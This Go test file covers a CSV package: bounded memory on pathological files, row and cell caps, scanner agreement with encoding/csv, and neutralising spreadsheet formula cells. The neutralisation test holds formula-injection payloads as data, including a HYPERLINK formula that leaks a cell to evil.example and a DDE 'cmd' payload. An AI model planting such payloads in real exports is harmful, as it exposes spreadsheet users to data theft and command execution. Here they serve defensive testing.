package csvio

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"casefile/internal/alloctest"
)

// TestReadTableBoundedMemory: a file of separators cost about 80 times
// its size (a 30 MB one took 2.35 GB): every separator became a cell, 16
// bytes and an index, and every row a slice. Reading now allocates a
// bounded multiple of the file (the file itself, once), whatever its
// shape: one endless line is refused at the row's cap, blank rows are
// read into one reused record, and the cells kept are capped per file.
func TestReadTableBoundedMemory(t *testing.T) {
	const size = 3 << 20
	row := strings.Repeat("a;", 99) + "a\n" // 100 cells, kept
	files := []struct {
		name string
		file []byte
		want error
		kept int // cells kept
	}{
		{"one line of separators", bytes.Repeat([]byte(";"), size), ErrRowTooLarge, 0},
		{"one line of cells", bytes.Repeat([]byte("a;"), size/2), ErrRowTooLarge, 0},
		{"lines of separators", bytes.Repeat([]byte(strings.Repeat(";", 999)+"\n"), size/1000), ErrEmpty, 0},
		{"a quoted field across lines", []byte("Nom;Note\nA;\"" + strings.Repeat("x\n", size/2) + "\"\n"), ErrRowTooLarge, 0},
		{"quotes reopened on every line", []byte("Nom\n\"a" + strings.Repeat("\";\"a\n", size/5) + "\"\n"), ErrRowTooLarge, 0},
		{"rows of 100 cells", []byte("Nom;" + row + strings.Repeat(row, size/len(row))), nil, 100 * (size / len(row))},
	}
	for _, f := range files {
		t.Run(f.name, func(t *testing.T) {
			var err error
			n := alloctest.Bytes(func() { _, err = ReadTable(bytes.NewReader(f.file)) })
			// The file (read into a buffer that grows), the kept rows'
			// text and 16 bytes for each cell kept.
			limit := uint64(3*len(f.file) + 16*f.kept + 8<<20)
			t.Logf("%.1f MiB file: %.1f MiB allocated (limit %.1f MiB)", float64(len(f.file))/(1<<20), float64(n)/(1<<20), float64(limit)/(1<<20))
			if !errors.Is(err, f.want) {
				t.Errorf("got %v, want %v", err, f.want)
			}
			if alloctest.Counted && n > limit {
				t.Fatalf("allocated %d bytes for a %d-byte file", n, len(f.file))
			}
		})
	}
}

// TestReadTableFileCaps: past MaxRows rows or MaxCells cells kept, the
// file is refused as a whole, with its own message.
func TestReadTableFileCaps(t *testing.T) {
	oldRows, oldCells := maxRows, maxCells
	t.Cleanup(func() { maxRows, maxCells = oldRows, oldCells })
	maxRows, maxCells = 10, 25
	file := func(rows int, row string) []byte {
		return []byte("Nom;Prénom;Ville\n" + strings.Repeat(row+"\n", rows))
	}
	if _, err := ReadTable(bytes.NewReader(file(10, "A;B"))); err != nil {
		t.Fatalf("10 rows of 2 cells: %v", err)
	}
	if _, err := ReadTable(bytes.NewReader(file(11, "A;B"))); !errors.Is(err, ErrTooManyRows) {
		t.Fatalf("11 rows: %v", err)
	}
	if _, err := ReadTable(bytes.NewReader(file(9, "A;B;C"))); !errors.Is(err, ErrTooManyRows) {
		t.Fatalf("27 cells: %v", err)
	}
	// Trailing empty cells are not kept, nor counted.
	if tab, err := ReadTable(bytes.NewReader(file(10, "A;;;;;;"))); err != nil || len(tab.Rows[0]) != 1 {
		t.Fatalf("trailing empty cells: %v", err)
	}
	for _, l := range []string{"fr_FR.UTF-8", "en_US.UTF-8"} {
		t.Setenv("LANG", l)
		for _, err := range []error{ErrTooManyRows, ErrRowTooLarge} {
			if k, ok := err.(interface{ MessageKey() string }); !ok || !strings.HasPrefix(k.MessageKey(), "csv.err.") {
				t.Fatalf("%v has no translation key", err)
			}
		}
	}
}

// TestRowScannerFollowsEncodingCSV: the limiter splits records exactly as
// encoding/csv does (same count of cells for every record), whatever the
// quotes, separators and line ends, so that its caps bound what
// encoding/csv holds: every text of up to 7 of these characters, then
// longer random ones.
func TestRowScannerFollowsEncodingCSV(t *testing.T) {
	check := func(text string) string {
		cr := csv.NewReader(strings.NewReader(text))
		cr.Comma, cr.FieldsPerRecord, cr.LazyQuotes = ';', -1, true
		var want []int
		for {
			rec, err := cr.Read()
			if err != nil {
				break
			}
			want = append(want, len(rec))
		}
		if got := scanCells([]byte(text)); !slices.Equal(got, want) {
			return fmt.Sprintf("%q: scanner %v, encoding/csv %v", text, got, want)
		}
		return ""
	}
	alphabet := []byte("a;\"\n\r")
	var all func(prefix []byte)
	all = func(prefix []byte) {
		if msg := check(string(prefix)); msg != "" {
			t.Fatal(msg)
		}
		if len(prefix) < 7 {
			for _, c := range alphabet {
				all(append(prefix, c))
			}
		}
	}
	all(nil)
	rapid.Check(t, func(t *rapid.T) {
		if msg := check(rapid.StringOf(rapid.SampledFrom([]rune("a;\"\n\r é"))).Draw(t, "text")); msg != "" {
			t.Fatal(msg)
		}
	})
}

// scanCells is the count of cells of each record rowScanner sees in b,
// leaving out the empty lines encoding/csv skips.
func scanCells(b []byte) []int {
	var out []int
	s := rowScanner{comma: ';'}
	start := 0
	for i, c := range b {
		cells := s.cells
		s.step(c)
		if s.bytes == 0 { // the record ended with c
			if rec := string(b[start : i+1]); rec != "\n" && rec != "\r\n" {
				out = append(out, cells)
			}
			start = i + 1
		}
	}
	if rec := string(b[start:]); rec != "" && rec != "\r" {
		out = append(out, s.cells)
	}
	return out
}

// TestNeutralise: every cell a spreadsheet would evaluate gets a leading
// quote, in both writer set-ups, and import-csv takes it off again.
func TestNeutralise(t *testing.T) {
	cells := []string{`=HYPERLINK("http://evil.example/?"&A2,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
		"\tx", "\rx", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1", "''@x"}
	for _, c := range cells {
		if Neutralise(c) != "'"+c {
			t.Errorf("Neutralise(%q) = %q", c, Neutralise(c))
		}
		if unescapeCell(Neutralise(c)) != c {
			t.Errorf("%q does not read back", c)
		}
	}
	for _, c := range []string{"Lyon", " =1", "'Lyon", "", "1-2"} {
		if Neutralise(c) != c || unescapeCell(c) != c {
			t.Errorf("%q changed", c)
		}
	}
	var b bytes.Buffer
	w, err := NewWriterOptions(&b, Options{Comma: ',', LF: true})
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]string{"a", cells[0]})
	w.Flush()
	if got := b.String(); got != `a,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`+"\n" {
		t.Fatalf("written %q", got)
	}
}

// TestReadMappingCapped: a mapping file is read up to MaxMappingFile (the
// command line read it whole before).
func TestReadMappingCapped(t *testing.T) {
	if m, err := ReadMapping(strings.NewReader(`{"version":1,"columns":{"Nom":"person.family_name"}}`)); err != nil || m.Columns["Nom"] != "person.family_name" {
		t.Fatalf("%v %v", m, err)
	}
	huge := io.MultiReader(strings.NewReader(`{"version":1,"columns":{"`), strings.NewReader(strings.Repeat("x", MaxMappingFile)))
	if _, err := ReadMapping(huge); !errors.Is(err, ErrMappingTooLarge) {
		t.Fatalf("got %v", err)
	}
}
